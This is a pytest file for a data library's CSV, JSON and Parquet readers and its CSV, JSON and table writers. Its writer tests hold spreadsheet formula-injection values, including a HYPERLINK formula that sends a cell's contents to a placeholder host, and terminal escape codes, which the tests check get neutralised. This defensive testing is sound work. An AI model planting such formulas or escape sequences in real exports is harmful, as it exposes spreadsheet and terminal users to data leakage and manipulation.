"""Readers and writers: every input record yields exactly one Row, in order, bad ones kept."""

from __future__ import annotations

import csv
import datetime
import gzip
import io
import json
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from icpdsl.errors import ICPLoadError
from icpdsl.io import Row, json_reader, open_records, read_records
from icpdsl.io.csv_reader import clean_header, sniff_delimiter
from icpdsl.io.formats import format_from_bytes, format_from_name
from icpdsl.io.table import TableWriter, fit
from icpdsl.io.writers import CSVWriter, JSONArrayWriter, JSONLinesWriter, escape_formula
from icpdsl.limits import Limits


def write(tmp_path: Path, name: str, data: bytes | str) -> Path:
    path = tmp_path / name
    path.write_bytes(data.encode() if isinstance(data, str) else data)
    return path


def rows(path: Path, **options: object) -> list[Row]:
    reader = open_records(path, **options)  # type: ignore[arg-type]
    try:
        return list(reader)
    finally:
        reader.source.close()


# ------------------------------------------------------------------ CSV


@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
def test_csv_delimiter_is_sniffed(tmp_path: Path, delimiter: str) -> None:
    text = delimiter.join(["name", "employees", "tech"]) + "\n"
    text += delimiter.join(['"Acme, Inc; Ltd|x"', "540", '"AWS; Okta"']) + "\n"
    reader = open_records(write(tmp_path, "a.csv", text))
    assert reader.columns == ["name", "employees", "tech"]
    assert [r.record for r in reader] == [
        {"name": "Acme, Inc; Ltd|x", "employees": 540, "tech": "AWS; Okta"}
    ]


def test_csv_cells_are_typed_and_a_bom_is_not_part_of_the_header(tmp_path: Path) -> None:
    path = write(
        tmp_path,
        "a.csv",
        "\ufeffid,employees,revenue,ok,founded,note,empty\n"
        '00123,"1,200",$12.5M,yes,2020-01-31,hello,\n',
    )
    (row,) = rows(path, text_columns=["ID"])
    assert row == Row(
        1,
        {
            "id": "00123",
            "employees": 1200,
            "revenue": 12_500_000,
            "ok": True,
            "founded": datetime.date(2020, 1, 31),
            "note": "hello",
            "empty": None,
        },
        None,
        2,
    )


def test_csv_bad_rows_become_error_rows_and_reading_goes_on(tmp_path: Path) -> None:
    path = write(
        tmp_path,
        "bad.csv",
        "id,name,employees\n"
        "1,Good,10\n"
        '2,"bad"quote,20\n'
        "\n"
        "3,Too,many,cells\n"
        '4,"unclosed,40\n'
        "5,After,50\n"
        "6,Short\n"
        '7,"multi\nline",70\n'
        "8,Last,80\n",
    )
    got = rows(path)
    assert [r.number for r in got] == list(range(1, 9))
    assert [(r.line, r.error) for r in got if r.error] == [
        (3, "bad quoting: ',' expected after '\"'"),
        (5, "expected 3 cells, found 4"),
        (6, "unclosed quote (the quoted cell runs past the end of line 6)"),
        (8, "expected 3 cells, found 2"),
    ]
    good = [(r.line, r.record["name"]) for r in got if r.record]
    assert good == [(2, "Good"), (7, "After"), (9, "multi\nline"), (11, "Last")]


def test_csv_header_only_and_empty_files_have_no_rows(tmp_path: Path) -> None:
    header_only = open_records(write(tmp_path, "h.csv", "id,name\n"))
    assert (header_only.columns, list(header_only), header_only.empty) == (
        ["id", "name"],
        [],
        False,
    )
    empty = open_records(write(tmp_path, "e.csv", ""))
    assert (empty.columns, list(empty), empty.empty) == ([], [], True)
    blank = open_records(write(tmp_path, "b.csv", "\n\n  \n"))
    assert (list(blank), blank.empty) == ([], True)


def test_csv_blank_and_repeated_headers_get_names_and_warnings() -> None:
    assert clean_header([" name ", "", "name", "name_2", "name"]) == (
        ["name", "column_2", "name_2", "name_2_2", "name_3"],
        [
            "column 2 has no name; it is read as 'column_2'",
            "column 3 repeats the name 'name'; it is read as 'name_2'",
            "column 4 repeats the name 'name_2'; it is read as 'name_2_2'",
            "column 5 repeats the name 'name'; it is read as 'name_3'",
        ],
    )


def test_csv_not_utf8_is_a_clear_error_unless_the_encoding_is_given(tmp_path: Path) -> None:
    path = write(tmp_path, "latin.csv", "id,name\n1,Café\n".encode("latin-1"))
    with pytest.raises(ICPLoadError) as caught:
        rows(path)
    assert str(caught.value) == (
        f"{path}: not UTF-8 text near line 2 (byte 0xe9)\n"
        "    hint: most likely cp1252 (Windows) or latin-1, which read these bytes alike: "
        "re-save it as UTF-8, or --encoding cp1252"
    )
    assert [r.record for r in rows(path, encoding="latin-1")] == [{"id": 1, "name": "Café"}]
    with pytest.raises(ICPLoadError, match="unknown text encoding 'klingon'"):
        rows(path, encoding="klingon")


def test_csv_bad_bytes_after_the_sample_make_an_error_row(tmp_path: Path) -> None:
    """Past the first lines a stray byte is one bad record, not a reason to stop."""
    body = "".join(f"{i},name{i}\n" for i in range(2000)).encode()
    path = write(tmp_path, "late.csv", b"id,name\n" + body + b"9,Caf\xe9\n10,ok\n")
    got = rows(path)
    assert len(got) == 2002
    assert (got[-2].error, got[-2].line) == ("not UTF-8 text (byte 0xe9)", 2002)
    assert got[-1].record == {"id": 10, "name": "ok"}


def test_csv_bare_cr_line_endings_and_gzip(tmp_path: Path) -> None:
    path = write(tmp_path, "cr.csv", "id,name\r1,A\r2,B\r")
    assert [r.record for r in rows(path)] == [{"id": 1, "name": "A"}, {"id": 2, "name": "B"}]
    packed = write(tmp_path, "a.csv.gz", gzip.compress(b"id,name\n1,A\n"))
    assert [r.record for r in rows(packed)] == [{"id": 1, "name": "A"}]


def test_stdin_format_comes_from_the_first_bytes() -> None:
    for data, expected in [
        (b"id,name\n1,A\n", {"id": 1, "name": "A"}),
        (b'{"id": 1}\n', {"id": 1}),
        (b'[{"id": 1}]', {"id": 1}),
    ]:
        reader = open_records("-", stdin=io.BytesIO(data))
        assert [r.record for r in reader] == [expected]


def test_formats_from_names_and_bytes() -> None:
    assert [
        format_from_name(n)
        for n in ["a.CSV", "a.tsv", "a.jsonl.gz", "a.ndjson", "a.json", "a.parquet", "a.xlsx", "-"]
    ] == ["csv", "csv", "jsonl", "jsonl", "json", "parquet", None, None]
    assert [format_from_bytes(b) for b in [b"PAR1...", b"\xef\xbb\xbf [", b"\n{", b"id,"]] == [
        "parquet",
        "json",
        "jsonl",
        "csv",
    ]


def test_sniffing_prefers_the_delimiter_that_splits_consistently() -> None:
    assert sniff_delimiter(["a;b,c;d\n", "1;2,3;4\n", "5;6;7\n"]) == ";"
    assert sniff_delimiter(["name\n", "Acme\n"]) == ","
    assert sniff_delimiter([]) == ","


@settings(max_examples=60, deadline=None)
@given(
    st.lists(
        st.lists(
            st.text(st.characters(codec="utf-8", exclude_characters="\r\x00"), max_size=8),
            min_size=3,
            max_size=3,
        ),
        max_size=12,
    ),
    st.sampled_from([",", ";", "\t", "|"]),
)
def test_csv_round_trip_one_row_per_record(cells: list[list[str]], delimiter: str) -> None:
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter, lineterminator="\n")
    writer.writerow(["a", "b", "c"])
    written = [row for row in cells if any(c.strip() for c in row)]  # blank lines are skipped
    writer.writerows(written)
    reader = open_records(
        "-",
        stdin=io.BytesIO(buffer.getvalue().encode()),
        format="csv",
        delimiter=delimiter,
        text_columns=["a", "b", "c"],
    )
    got = list(reader)
    assert [r.number for r in got] == list(range(1, len(written) + 1))
    assert [r.record for r in got] == [dict(zip("abc", row, strict=True)) for row in written]


# ------------------------------------------------------------------ JSON


def test_jsonl_bad_lines_become_error_rows(tmp_path: Path) -> None:
    path = write(
        tmp_path, "a.jsonl", b'\xef\xbb\xbf{"a": 1}\n\n[1, 2]\n{bad\n"\xff"\n{"b": 2}\nnull\n'
    )
    assert [(r.number, r.line, r.record, r.error) for r in rows(path)] == [
        (1, 1, {"a": 1}, None),
        (2, 3, None, "expected a JSON object, found an array"),
        (3, 4, None, "invalid JSON: Expecting property name enclosed in double quotes (column 2)"),
        (4, 5, None, "not UTF-8 text (byte 0xff)"),
        (5, 6, {"b": 2}, None),
        (6, 7, None, "expected a JSON object, found null"),
    ]


def test_json_array_is_streamed_across_chunk_edges(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(json_reader, "_CHUNK", 3)
    path = write(
        tmp_path, "a.json", '[{"a": 12345},\n 67890, {"b": "x\\"y]"},\n{"c": [1, {"d": 2}]}]'
    )
    assert [(r.number, r.line, r.record, r.error) for r in rows(path)] == [
        (1, 1, {"a": 12345}, None),
        (2, 2, None, "expected a JSON object, found a number"),
        (3, 2, {"b": 'x"y]'}, None),
        (4, 3, {"c": [1, {"d": 2}]}, None),
    ]


def test_json_syntax_errors_and_odd_shapes(tmp_path: Path) -> None:
    broken = write(tmp_path, "b.json", '[{"a": 1},\n {"b":: 2}, {"c": 3}]')
    assert [(r.number, r.error) for r in rows(broken)] == [
        (1, None),
        (2, "invalid JSON: Expecting value; the rest of the file cannot be read"),
    ]
    unclosed = write(tmp_path, "u.json", '[{"a": 1}')
    assert [r.error for r in rows(unclosed)] == [None, "invalid JSON: the array is not closed"]
    closed = open_records(write(tmp_path, "e.json", " [ ] \n"))
    assert (list(closed), closed.warnings) == ([], [])
    huge = write(tmp_path, "h.json", '[{"n": ' + "9" * 5000 + "}]")
    assert [r.record for r in rows(huge)] == [{"n": float("9" * 5000)}]
    assert rows(write(tmp_path, "z.json", "")) == []
    objects = write(tmp_path, "o.json", '{"a": 1}\n{"a": 2}')
    assert [r.record for r in rows(objects)] == [{"a": 1}, {"a": 2}]
    trailing = open_records(write(tmp_path, "t.json", '[{"a": 1}] junk'))
    assert len(list(trailing)) == 1
    assert trailing.warnings == ["text after the closing ']' (line 1) ignored"]


@settings(max_examples=40, deadline=None)
@given(
    st.lists(
        st.one_of(
            st.dictionaries(
                st.text(max_size=5),
                st.one_of(
                    st.integers(), st.text(max_size=6), st.floats(allow_nan=False), st.booleans()
                ),
                max_size=4,
            ),
            st.integers(),
        ),
        max_size=10,
    ),
    st.integers(min_value=1, max_value=9),
)
def test_json_array_reader_agrees_with_json_loads(values: list[object], chunk: int) -> None:
    old = json_reader._CHUNK
    json_reader._CHUNK = chunk
    try:
        data = json.dumps(values, indent=1).encode()
        got = list(open_records("-", stdin=io.BytesIO(data), format="json"))
    finally:
        json_reader._CHUNK = old
    assert [r.record for r in got] == [v if isinstance(v, dict) else None for v in values]
    assert [r.number for r in got] == list(range(1, len(values) + 1))


def test_parquet_is_read_batch_by_batch(tmp_path: Path) -> None:
    pa = pytest.importorskip("pyarrow")
    import pyarrow.parquet as pq

    path = tmp_path / "a.parquet"
    pq.write_table(pa.table({"id": [1, 2], "tech": [["AWS"], None]}), path)
    reader = open_records(path)
    assert reader.columns == ["id", "tech"]
    assert [r.record for r in reader] == [{"id": 1, "tech": ["AWS"]}, {"id": 2, "tech": None}]
    stdin = list(open_records("-", stdin=io.BytesIO(path.read_bytes())))
    assert len(stdin) == 2
    with pytest.raises(ICPLoadError, match="not a Parquet file"):
        rows(write(tmp_path, "fake.parquet", b"PAR1 not really"))


def test_missing_files_are_load_errors(tmp_path: Path) -> None:
    with pytest.raises(ICPLoadError, match="no such file"):
        list(read_records(tmp_path / "nope.csv"))
    with pytest.raises(ICPLoadError, match="is a folder"):
        list(read_records(tmp_path))


# ------------------------------------------------------------------ writers


def test_writers_stream_valid_documents() -> None:
    rows_out = [{"row": 1, "id": "a", "score": 10}, {"row": 2, "id": None, "score": -5}]
    text = io.StringIO()
    writer = CSVWriter(text, ["row", "id", "score"])
    for row in rows_out:
        writer.write(row)
    assert text.getvalue() == "row,id,score\n1,a,10\n2,,-5\n"
    lines = io.StringIO()
    jsonl = JSONLinesWriter(lines)
    for row in rows_out:
        jsonl.write(row)
    assert [json.loads(line) for line in lines.getvalue().splitlines()] == rows_out
    for count in (0, 1, 2):
        array = io.StringIO()
        writer_json = JSONArrayWriter(array)
        for row in rows_out[:count]:
            writer_json.write(row)
        writer_json.close()
        assert json.loads(array.getvalue()) == rows_out[:count]


@pytest.mark.parametrize(
    "cell", ["=1+1", "+1-1", "-2+3", "@SUM(A1)", "\tTab", "\rCR", "-", "=", "-5a", "--5"]
)
def test_text_a_spreadsheet_would_run_gets_a_quote(cell: str) -> None:
    assert escape_formula(cell) == "'" + cell


@pytest.mark.parametrize(
    "cell", ["Acme", "a=b", " =1", "'=1", "", "-5", "+12", "-0.25", "-1e5", ".5", -5, -2.5, None]
)
def test_other_cells_and_numbers_stay_as_they_are(cell: object) -> None:
    assert escape_formula(cell) == cell


def test_csv_text_cells_are_escaped_unless_turned_off() -> None:
    row = {"=id": '=HYPERLINK("http://x?"&A1)', "name": "@SUM(1)", "score": -5, "n": "-10"}
    escaped, raw = io.StringIO(), io.StringIO()
    CSVWriter(escaped, list(row)).write(row)
    CSVWriter(raw, list(row), escape_formulas=False).write(row)
    assert list(csv.reader(io.StringIO(escaped.getvalue()))) == [
        ["'=id", "name", "score", "n"],
        ['\'=HYPERLINK("http://x?"&A1)', "'@SUM(1)", "-5", "-10"],
    ]
    assert list(csv.reader(io.StringIO(raw.getvalue()))) == [
        list(row),
        ['=HYPERLINK("http://x?"&A1)', "@SUM(1)", "-5", "-10"],
    ]


def test_table_pads_columns_cuts_long_cells_and_colours_verdicts() -> None:
    out = io.StringIO()
    table = TableWriter(
        out, ["row", "name", "verdict", "reason"], styled=["verdict"], styles={"fit": "32"}
    )
    table.write({"row": 1, "name": "x" * 60, "verdict": "fit", "reason": "r" * 80}, "detail")
    table.write({"row": 2, "name": "Acme\nCloud", "verdict": "not_fit", "reason": None})
    table.close()
    lines = out.getvalue().splitlines()
    assert lines[0] == "\033[1mrow\033[0m  \033[1mname\033[0m" + " " * 36 + (
        "  \033[1mverdict\033[0m  \033[1mreason\033[0m"
    )
    assert lines[1] == "1    " + "x" * 39 + "…  \033[32mfit\033[0m      " + "r" * 80
    assert lines[2] == "    detail"
    assert lines[3] == "2    Acme Cloud" + " " * 32 + "not_fit"
    plain = io.StringIO()
    narrow = TableWriter(plain, ["row", "reason"], line_width=20)
    narrow.write({"row": 1, "reason": "a long reason that does not fit"})
    narrow.close()
    assert plain.getvalue().splitlines() == ["row  reason", "1    a long reason …"]
    assert fit("日本語テキスト", 5) == "日本…"


def test_table_cells_cannot_drive_the_terminal() -> None:
    out = io.StringIO()
    table = TableWriter(out, ["id", "reason"])
    table.write({"id": "x\x1b[2Jy", "reason": "\x07bell\nnext"})
    table.close()
    assert out.getvalue() == "id         reason\nx\\x1b[2Jy  \\x07bell next\n"


def test_a_record_past_the_limit_is_one_error_row() -> None:
    data = ("id,note\n1," + "x" * 200_000 + "\n2,ok\n").encode()
    limits = Limits(max_record_chars=100_000)
    got = list(open_records("-", stdin=io.BytesIO(data), limits=limits))
    assert [(r.number, r.error, r.line) for r in got] == [
        (1, "the record is longer than 100,000 characters (Limits.max_record_chars)", 2),
        (2, None, 3),
    ]
